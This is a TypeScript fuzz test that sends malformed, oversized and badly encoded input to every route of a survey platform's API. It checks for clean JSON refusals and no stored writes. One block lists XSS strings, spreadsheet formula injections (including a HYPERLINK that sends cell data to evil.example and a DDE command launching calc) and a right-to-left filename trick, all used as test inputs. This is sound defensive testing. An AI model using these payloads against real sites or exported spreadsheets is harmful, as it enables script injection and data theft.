/**
 * Hostile and broken input at every route of functions/routes.ts (the table is
 * enumerated; no route is listed by hand): malformed JSON, wrong types,
 * oversized bodies, deep nesting, odd Unicode, wrong content types, very long
 * strings and bad path parameters, each sent with valid credentials (a
 * researcher token of an allowed role, a working personal link) so that the
 * input is what is tested. A refusal is a 4xx with a JSON error and nothing
 * about our insides, and nothing is written. In-process through the API
 * Gateway stand-in (tests/support/call-route.ts), plus real HTTP through the
 * embedded server for sizes, content types and bytes that only a socket
 * carries. Runs per case: PONT_FUZZ_RUNS (default 10).
 */
import { randomInt } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import type { Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { DynamoDBClient } from '@aws-sdk/client-dynamodb';
import { DynamoDBDocumentClient, ScanCommand } from '@aws-sdk/lib-dynamodb';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { signLocalResearcherToken } from '../../functions/auth/researcher-tokens.js';
import { reloadConfig } from '../../functions/config.js';
import { exportsInFlight } from '../../functions/exports/export-jobs.js';
import { resetExportStore } from '../../functions/exports/configured-export-store.js';
import { routes, type Route } from '../../functions/routes.js';
import { firstOwner, putMember } from '../../functions/storage/members.js';
import { createLocalUser } from '../../functions/storage/users.js';
import { loadHandlers, REPO_ROOT } from '../../infra/local/platform.js';
import { createEmbeddedServer } from '../../infra/local/server.js';
import { StaticSite } from '../../infra/local/static-site.js';
import { badBodies, badPathParameter, CATEGORIES, encodePathParameter, leakProblems, longStringExamples, longStrings, refusalProblems, type BadBody, type Sample } from '../support/bad-input.js';
import { callRoute, type RouteResult } from '../support/call-route.js';
import { CONSENT_VERSION, createLink, type LinkFixture } from '../support/fixtures.js';
import { useTestTable } from '../support/test-table.js';

const table = useTestTable();
const RUNS = Number(process.env.PONT_FUZZ_RUNS ?? 10);
let link: LinkFixture;
const researcherTokens = new Map<string, string>();

/** One valid body per route that takes one; the first test proves these are exactly the routes that do. */
const contextInstrument = JSON.parse(readFileSync(join(REPO_ROOT, 'instruments', 'context', '1.0.0.json'), 'utf8')) as Record<string, unknown>;
delete contextInstrument.$schema;
const SAMPLES: Record<string, Sample> = {
  SaveResponse: { contentType: 'application/json', body: { answers: {}, language: 'en', complete: false, baseRevision: 0, pageName: 'first' } },
  RecordConsent: { contentType: 'application/json', body: { version: CONSENT_VERSION, decision: 'agreed', language: 'en' } },
  RequestCheckIn: { contentType: 'application/json', body: { language: 'cy' } },
  LocalSignIn: { contentType: 'application/json', body: { email: 'nobody@pont.local', password: 'not a password' } },
  ChangePassword: { contentType: 'application/json', body: { email: 'nobody@pont.local', currentPassword: 'not a password', newPassword: 'a long enough new password' } },
  CreateStudy: {
    contentType: 'application/json',
    body: { studyId: 'fuzz-study', title: { en: 'Fuzz', cy: 'Fuzz' }, supportContacts: [], attributes: [], consent: { version: 'v1', text: { en: 'Agree?', cy: 'Cytuno?' } } },
  },
  CreateWave: {
    contentType: 'application/json',
    body: { waveId: 'follow-up', name: { en: 'Follow-up', cy: 'Dilynol' }, ordinal: 1, window: { kind: 'relative', opensAfterDays: 180, openForDays: 42 }, instruments: [{ id: 'check-in', version: '1.0.0' }], consentVersion: CONSENT_VERSION },
  },
  ImportParticipants: { contentType: 'text/csv', body: 'participant_code\nP-002\n' },
  IssueLinks: { contentType: 'application/json', body: { participantCodes: ['P-001'], reissue: false } },
  CreateLinkJob: { contentType: 'application/json', body: { participantCodes: ['P-001'], reissue: false } },
  WithdrawParticipant: { contentType: 'application/json', body: { scope: 'future-waves' } },
  CreateLocalUser: { contentType: 'application/json', body: { email: 'new-analyst@pont.local', role: 'analyst' } },
  SetParticipantContact: { contentType: 'application/json', body: { email: 'someone@example.org' } },
  PublishInstrumentVersion: { contentType: 'application/json', body: contextInstrument, opaque: ['survey'] },
  PublishInstrument: { contentType: 'application/json', body: contextInstrument, opaque: ['survey'] },
  ShareDraft: { contentType: 'application/json', body: { instrument: { ...contextInstrument, version: '9.0.0' }, days: 7 }, opaque: ['instrument'] },
  AddReviewComment: { contentType: 'application/json', body: { questionName: null, text: 'A comment', language: 'cy' } },
  CreateExport: { contentType: 'application/json', body: { includePartial: true } },
  AddConsentText: { contentType: 'application/json', body: { version: 'fuzz-consent-2', text: { en: 'Do you agree?', cy: "Ydych chi'n cytuno?" } } },
  UpdateUser: { contentType: 'application/json', body: { role: 'analyst' } },
  AddMember: { contentType: 'application/json', body: { email: 'fuzz-member@pont.local', role: 'researcher' } },
};

/** Valid values for every path parameter in the table; a new parameter name fails here until it has one. */
function pathParameters(route: Route): Record<string, string> {
  const publishing = route.name === 'PublishInstrumentVersion';
  const values: Record<string, string> = {
    token: link.token,
    instrumentId: publishing ? 'context' : link.instrument.id,
    version: publishing ? '1.0.0' : link.instrument.version,
    contentHash: link.instrument.contentHash,
    studyId: link.studyId,
    waveId: link.waveId,
    participantCode: link.participantCode,
    scope: link.studyId,
    exportId: '20260101T000000Z-00000000',
    messageId: 'no-message',
    userId: 'no-such-user',
    draftId: 'no-such-draft',
    jobId: '20260101T000000-000000000000',
  };
  const names = [...route.path.matchAll(/\{(\w+)\}/g)].map((m) => m[1]!);
  for (const name of names) if (!(name in values)) throw new Error(`No valid value for {${name}} of ${route.name}: add one to pathParameters()`);
  return Object.fromEntries(names.map((name) => [name, values[name]!]));
}

function pathOf(route: Route, parameters = pathParameters(route)): string {
  return route.path.replace(/\{(\w+)\}/g, (_, name: string) => encodePathParameter(parameters[name]!));
}

/**
 * The credential the route asks for: a researcher token of an allowed role (for
 * a route that names a study, the study's owner, whom every study scope
 * allows); a link token is in the path.
 */
function authHeaders(route: Route): Record<string, string> {
  if (route.access.kind !== 'researcher') return {};
  return { authorization: `Bearer ${researcherTokens.get(route.access.study ? 'owner' : route.access.roles[0]!)}` };
}

const bodyText = (sample: Sample) => (typeof sample.body === 'string' ? sample.body : JSON.stringify(sample.body));

/** Sends a bad body (under its own content type, the sample's, or none), or the valid sample, or nothing. */
function send(route: Route, options: { path?: string; bad?: BadBody; sample?: Sample }): Promise<RouteResult> {
  const headers = authHeaders(route);
  const { bad, sample } = options;
  const contentType = bad?.contentType !== undefined ? bad.contentType : sample?.contentType;
  if (contentType) headers['content-type'] = contentType;
  const body = bad ? bad.body : sample ? bodyText(sample) : undefined;
  // Each request from its own address: a route that counts bad tokens per client (the review link's path here holds a
  // personal link's token) would otherwise answer 429 after 20 of them, and this test is about bodies, not that limit.
  return callRoute(route.method, options.path ?? pathOf(route), { headers, sourceIp: randomAddress(), ...(body === undefined ? {} : { body }) });
}

const randomAddress = () => `10.${randomInt(256)}.${randomInt(256)}.${randomInt(1, 255)}`;

// Both tables, every item as text. Left out: the counters that rate-limit bad link
// tokens (RATE#…), since counting a bad token is what a bad token is meant to write.
const client = DynamoDBDocumentClient.from(
  new DynamoDBClient({ endpoint: inject('dynamoEndpoint'), region: 'eu-west-2', credentials: { accessKeyId: 'local', secretAccessKey: 'local' } }),
);
async function snapshot(): Promise<Set<string>> {
  const items = new Set<string>();
  for (const name of [table.name, `${table.name}-identity`]) {
    let ExclusiveStartKey: Record<string, unknown> | undefined;
    do {
      const page = await client.send(new ScanCommand({ TableName: name, ExclusiveStartKey, ConsistentRead: true }));
      for (const item of page.Items ?? []) if (!String(item.PK).startsWith('RATE#')) items.add(`${name}: ${JSON.stringify(item, Object.keys(item).sort())}`);
      ExclusiveStartKey = page.LastEvaluatedKey;
    } while (ExclusiveStartKey);
  }
  return items;
}
async function writesSince(before: Set<string>): Promise<string[]> {
  const after = await snapshot();
  return [...[...after].filter((item) => !before.has(item)).map((item) => `+ ${item.slice(0, 160)}`), ...[...before].filter((item) => !after.has(item)).map((item) => `- ${item.slice(0, 160)}`)];
}

/** Counts for the summary: per category, inputs tried, refused correctly, and what got through. */
type Tally = { tried: number; refused: number; ignored: number; accepted: number; through: string[]; statuses: Record<number, number> };
const tally = new Map<string, Tally>();
function count(category: string, status: number, outcome: 'refused' | 'ignored' | 'accepted' | { through: string }): void {
  const entry = tally.get(category) ?? { tried: 0, refused: 0, ignored: 0, accepted: 0, through: [], statuses: {} };
  entry.tried += 1;
  entry.statuses[status] = (entry.statuses[status] ?? 0) + 1;
  if (typeof outcome === 'object') entry.through.push(outcome.through);
  else entry[outcome] += 1;
  tally.set(category, entry);
}
/** A write found after a run of refusals: it got through, whichever input made it. */
function countWrites(category: string, route: Route, written: string[]): void {
  if (written.length > 0) tally.get(category)?.through.push(`${route.name} wrote ${written.join('; ')}`);
}

/** Checks one refusal and counts it; returns its problems. */
function checkRefusal(category: string, route: Route, result: RouteResult, note: string): string[] {
  const problems = refusalProblems(result);
  count(category, result.status, problems.length === 0 ? 'refused' : { through: `${route.name} (${note}): ${problems.join(', ')}` });
  return problems;
}

/** Routes that read a body: a request without one is refused as the wrong media type. */
const takesBody = new Map<string, boolean>();

const exportDir = mkdtempSync(join(tmpdir(), 'pont-bad-input-exports-'));

beforeAll(async () => {
  // The example export request starts a real export: give it somewhere to write.
  Object.assign(process.env, { EXPORT_DIR: exportDir, EXPORT_URL_SECRET: 'a secret of at least thirty-two characters' });
  reloadConfig();
  resetExportStore();
  link = await createLink();
  for (const role of ['admin', 'researcher', 'analyst'] as const) {
    researcherTokens.set(role, (await signLocalResearcherToken({ userId: `fuzz-${role}`, role, instrumentAuthor: true })).token);
  }
  researcherTokens.set('owner', (await signLocalResearcherToken({ userId: 'fuzz-owner', role: 'researcher' })).token);
  await putMember(firstOwner(link.studyId, { userId: 'fuzz-owner', email: 'fuzz-owner@pont.local' }, new Date().toISOString()), undefined);
  await createLocalUser({ userId: 'fuzz-member', email: 'fuzz-member@pont.local', role: 'researcher', passwordHash: 'unused', createdAt: new Date().toISOString() });
  for (const route of routes) takesBody.set(route.name, (await send(route, {})).status === 415);
});

afterAll(async () => {
  await exportsInFlight();
  rmSync(exportDir, { recursive: true, force: true });
  const sum = (pick: (t: Tally) => number) => [...tally.values()].reduce((n, t) => n + pick(t), 0);
  const lines = [...tally].map(
    ([category, t]) =>
      `  ${category}: ${t.tried} tried, ${t.refused} refused correctly` +
      `${t.ignored ? `, ${t.ignored} ignored (the route takes no body)` : ''}${t.accepted ? `, ${t.accepted} accepted (valid but for length)` : ''}, ${t.through.length} got through ` +
      `(statuses ${Object.entries(t.statuses).map(([status, n]) => `${status}: ${n}`).join(', ')})`,
  );
  const through = [...tally.values()].flatMap((t) => t.through);
  console.log(
    [
      `Bad input at ${routes.length} routes: ${sum((t) => t.tried)} inputs tried, ${sum((t) => t.refused)} refused correctly, ${through.length} got through`,
      ...lines,
      ...through.slice(0, 10).map((e) => `  got through: ${e}`),
    ].join('\n'),
  );
});

describe('the route table and the examples', () => {
  it('has an example body for exactly the routes that take a body', () => {
    const bodyRoutes = routes.filter((route) => takesBody.get(route.name)).map((route) => route.name);

    expect(bodyRoutes.sort()).toEqual(Object.keys(SAMPLES).sort());
  });
});

for (const route of routes) {
  describe(`${route.method} ${route.path} (${route.name})`, () => {
    const sample = SAMPLES[route.name];
    if (sample) {
      for (const category of CATEGORIES) {
        it(`refuses ${category} in the body, writes nothing, shows no internals`, { timeout: 120_000 }, async () => {
          const before = await snapshot();
          await fc.assert(
            fc.asyncProperty(badBodies(category, sample), async (bad) => {
              const result = await send(route, { bad, sample });
              // Only a wrong content type may be refused as one: anything else must have reached the parser.
              const mediaType = category === 'wrong content type' ? (result.status === 415 ? [] : [`status ${result.status}, not 415`]) : result.status === 415 ? ['refused as the wrong media type'] : [];
              expect([...checkRefusal(category, route, result, bad.note), ...mediaType]).toEqual([]);
            }),
            { numRuns: category === 'oversized' ? 5 : RUNS },
          );
          const written = await writesSince(before);
          countWrites(category, route, written);
          expect(written).toEqual([]);
        });
      }
    } else {
      it('takes no body, so ignores any bad one: the same answer as without it, never a 5xx', { timeout: 120_000 }, async () => {
        const plain = await send(route, {});
        const anyBody: Sample = { contentType: 'application/json', body: { a: 1 } };
        const categoryAndBody = fc.constantFrom(...CATEGORIES).chain((category) => badBodies(category, anyBody).map((bad) => [category, bad] as const));
        await fc.assert(
          fc.asyncProperty(categoryAndBody, async ([category, bad]) => {
            const result = await send(route, { bad, sample: anyBody });
            const problems = [...leakProblems(result.text), ...(result.status === plain.status ? [] : [`status ${result.status}, ${plain.status} without the body`])];
            count(category, result.status, problems.length === 0 ? 'ignored' : { through: `${route.name} (${bad.note}): ${problems.join(', ')}` });
            expect(problems).toEqual([]);
          }),
          { numRuns: RUNS * 2 },
        );
      });
    }

    if (sample) {
      it('answers very long strings with a JSON refusal or accepts them, never a 5xx', { timeout: 120_000 }, async () => {
        await fc.assert(
          fc.asyncProperty(longStrings(sample), async (bad) => {
            const before = await snapshot();
            const result = await send(route, { bad, sample });
            const accepted = result.status >= 200 && result.status < 300;
            const problems = accepted
              ? leakProblems(result.text)
              : [...refusalProblems(result), ...(result.status === 415 ? ['refused as the wrong media type'] : []), ...(await writesSince(before)).map((w) => `refused but wrote ${w}`)];
            count('very long strings', result.status, problems.length > 0 ? { through: `${route.name} (${bad.note}): ${problems.join(', ')}` } : accepted ? 'accepted' : 'refused');
            expect(problems).toEqual([]);
          }),
          { numRuns: RUNS + longStringExamples(sample).length, examples: longStringExamples(sample) },
        );
      });
    }

    if (route.path.includes('{')) {
      it('refuses bad path parameters, writes nothing, shows no internals', { timeout: 120_000 }, async () => {
        const valid = pathParameters(route);
        // Every parameter, too long for a key and well-formed but unknown, before the random ones.
        const examples = Object.keys(valid).flatMap((name): [string, string][] => [[name, 'a'.repeat(3000)], [name, 'no-such-thing']]);
        const before = await snapshot();
        await fc.assert(
          fc.asyncProperty(fc.constantFrom(...Object.keys(valid)), badPathParameter, async (name, value) => {
            const path = pathOf(route, { ...valid, [name]: value });
            const result = await send(route, { path, ...(sample ? { sample } : {}) });
            expect(checkRefusal('bad path parameters', route, result, `{${name}} = ${JSON.stringify(value.slice(0, 40))}`)).toEqual([]);
          }),
          { numRuns: RUNS * 2 + examples.length, examples },
        );
        const written = await writesSince(before);
        countWrites('bad path parameters', route, written);
        expect(written).toEqual([]);
      });
    }
  });
}

describe('over real HTTP, through the embedded server', () => {
  let server: Server;
  let base: string;
  const siteDir = mkdtempSync(join(tmpdir(), 'pont-bad-input-site-'));

  beforeAll(async () => {
    writeFileSync(join(siteDir, 'index.html'), '<!doctype html><title>Pont</title>');
    server = createEmbeddedServer({ routes, handlers: await loadHandlers(), site: new StaticSite(siteDir) });
    await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
    base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  });
  afterAll(async () => {
    server.closeAllConnections();
    await new Promise((done) => server.close(done));
    rmSync(siteDir, { recursive: true, force: true });
  });

  async function request(route: Route, path: string, headers: Record<string, string>, body?: Buffer | string): Promise<RouteResult> {
    const response = await fetch(`${base}${path}`, { method: route.method, headers: { ...authHeaders(route), ...headers }, ...(body === undefined ? {} : { body: typeof body === 'string' ? body : new Uint8Array(body) }) });
    const text = await response.text();
    let json: unknown;
    try {
      json = JSON.parse(text);
    } catch {
      json = undefined;
    }
    return { status: response.status, headers: Object.fromEntries(response.headers), json, text };
  }

  it('refuses bodies over 10 MB, big ones, bytes that are not UTF-8 and binary content types at every route that takes a body', { timeout: 120_000 }, async () => {
    const before = await snapshot();
    const problems: string[] = [];
    for (const route of routes.filter((r) => SAMPLES[r.name])) {
      const sample = SAMPLES[route.name]!;
      const cases: [string, Record<string, string>, Buffer | string][] = [
        ['over 10 MB', { 'content-type': sample.contentType }, Buffer.alloc(10 * 1024 * 1024 + 1, 0x20)],
        ['5 MB of JSON', { 'content-type': sample.contentType }, JSON.stringify({ padding: 'x'.repeat(5 * 1024 * 1024) })],
        ['bytes that are not UTF-8', { 'content-type': `${sample.contentType}; charset=utf-8` }, Buffer.from([0x7b, 0x22, 0xff, 0xfe, 0xc3, 0x28, 0x22, 0x3a, 0x31, 0x7d])],
        ['a binary content type', { 'content-type': 'application/octet-stream' }, bodyText(sample)],
        ['JSON as a form', { 'content-type': 'application/x-www-form-urlencoded' }, bodyText(sample)],
      ];
      for (const [what, headers, body] of cases) {
        const result = await request(route, pathOf(route), headers, body);
        const found = refusalProblems(result);
        count('HTTP: sizes, bytes, content types', result.status, found.length === 0 ? 'refused' : { through: `${route.name} (${what}): ${found.join(', ')}` });
        if (found.length > 0) problems.push(`${route.name}, ${what}: ${found.join(', ')}`);
      }
    }
    const written = await writesSince(before);

    expect(problems).toEqual([]);
    expect(written).toEqual([]);
  });

  it('answers path parameters that do not decode (a lone surrogate, a bare 0xFF) with a JSON 404 at every route that has them', async () => {
    const problems: string[] = [];
    for (const route of routes.filter((r) => r.path.includes('{'))) {
      for (const escape of ['%ED%A0%80', '%FF', '%']) {
        const path = route.path.replace(/\{\w+\}/, escape).replace(/\{(\w+)\}/g, (_, name: string) => encodePathParameter(pathParameters(route)[name]!));
        const result = await request(route, path, SAMPLES[route.name] ? { 'content-type': SAMPLES[route.name]!.contentType } : {}, SAMPLES[route.name] ? bodyText(SAMPLES[route.name]!) : undefined);
        const found = [...refusalProblems(result), ...(result.status === 404 ? [] : [`status ${result.status}, not 404`])];
        count('HTTP: undecodable path parameters', result.status, found.length === 0 ? 'refused' : { through: `${route.name} (${escape}): ${found.join(', ')}` });
        if (found.length > 0) problems.push(`${route.name}, ${escape}: ${found.join(', ')}`);
      }
    }

    expect(problems).toEqual([]);
  });
});

describe('script and formula payloads in free text', () => {
  const payloads = [
    '<script>alert("pont")</script>',
    '<img src=x onerror=alert(1)>',
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    '+SUM(1,1)',
    '@SUM(1)',
    '\u202Etxt.exe',
    'NUL\u0000inside',
  ];

  it('are stored and returned exactly, as text in JSON, to the respondent and the research team', async () => {
    // Arrange
    const fresh = await createLink();
    await putMember(firstOwner(fresh.studyId, { userId: 'fuzz-owner', email: 'fuzz-owner@pont.local' }, new Date().toISOString()), undefined);
    const team = { authorization: `Bearer ${researcherTokens.get('owner')}` };

    for (const [revision, payload] of payloads.entries()) {
      // Act
      const saved = await callRoute('PUT', `/api/s/${fresh.token}/responses/${fresh.instrument.id}`, { body: { answers: { anything_else: payload }, language: 'en', complete: false, baseRevision: revision, pageName: 'second' } });
      const reopened = await callRoute('GET', `/api/s/${fresh.token}`);
      const listed = await callRoute('GET', `/api/studies/${fresh.studyId}/waves/${fresh.waveId}/responses`, { headers: team });

      // Assert
      expect(saved.status).toBe(200);
      for (const result of [reopened, listed]) {
        expect(result.status).toBe(200);
        expect(result.headers['content-type']).toMatch(/^application\/json/);
        // Browsers must not sniff a JSON answer into HTML.
        expect(result.headers['x-content-type-options']).toBe('nosniff');
      }
      expect(reopened.json.instruments[0].response.answers).toEqual({ anything_else: payload });
      expect(listed.json.responses.find((r: { participantCode: string }) => r.participantCode === fresh.participantCode).answers).toEqual({ anything_else: payload });
    }
  });
});

describe('the example bodies', () => {
  // Last: valid requests write (a study, a user, an instrument…), which the refusals above must not see.
  it('are accepted (not refused as malformed), so the mutations above start from valid input', async () => {
    const refused: string[] = [];
    for (const route of routes.filter((r) => SAMPLES[r.name])) {
      const result = await send(route, { sample: SAMPLES[route.name]! });
      if ([400, 413, 415].includes(result.status) || result.status >= 500) refused.push(`${route.name}: ${result.status} ${result.text.slice(0, 200)}`);
    }

    expect(refused).toEqual([]);
  });
});
